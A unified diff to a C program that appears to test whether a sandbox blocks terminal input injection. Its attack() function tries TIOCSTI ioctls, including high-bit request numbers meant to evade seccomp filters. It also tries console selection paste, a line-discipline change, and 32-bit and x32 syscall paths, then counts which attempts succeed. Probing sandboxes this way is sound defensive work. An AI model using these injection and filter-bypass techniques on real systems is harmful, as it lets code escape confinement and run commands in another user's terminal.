@@ -3,6 +3,7 @@
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <linux/tiocl.h>
+#include <setjmp.h>
 #include <signal.h>
 #include <stdint.h>
 #include <sys/ioctl.h>
@@ -19,9 +20,19 @@ static int request(int fd, unsigned long number, void *argument) {
 }
 
 #if defined(__x86_64__)
-/* The i386 call of the same kernel; as x86-64's ioctl it would be setsockopt. */
+static sigjmp_buf faulted;
+
+static void on_fault(int signal) {
+    siglongjmp(faulted, signal);
+}
+
+/* The i386 call of the same kernel; as x86-64's ioctl it would be setsockopt. On virtual machines
+ * without a 32-bit mode it is a fault. */
 static int old_request(int fd, unsigned long number) {
     long result;
+    signal(SIGSEGV, on_fault);
+    if (sigsetjmp(faulted, 1))
+        return 0;
     __asm__ volatile("int $0x80"
                      : "=a"(result)
                      : "a"(54), "b"((long)fd), "c"(number), "d"((long)(uintptr_t)text)
@@ -61,9 +72,10 @@ static int change_discipline(int fd) {
 static int attack(int fd, int compatible) {
     request(fd, TIOCSCTTY, (void *)1);
     request(fd, TIOCSCTTY, 0);
-    int count = request(fd, TIOCSTI, text) + request(fd, TIOCSTI | HIGH_BITS, text) +
-                request(fd, TIOCSTI | 0xfffUL << 40, text);
-    count += paste(fd, TIOCL_SETSEL) + paste(fd, TIOCL_PASTESEL) + change_discipline(fd);
+    int count = change_discipline(fd); /* first: it throws away what was typed */
+    count += request(fd, TIOCSTI, text) + request(fd, TIOCSTI | HIGH_BITS, text) +
+             request(fd, TIOCSTI | 0xfffUL << 40, text);
+    count += paste(fd, TIOCL_SETSEL) + paste(fd, TIOCL_PASTESEL);
     if (compatible)
         count += old_request(fd, TIOCSTI) + x32_request(fd, TIOCSTI);
     return count;
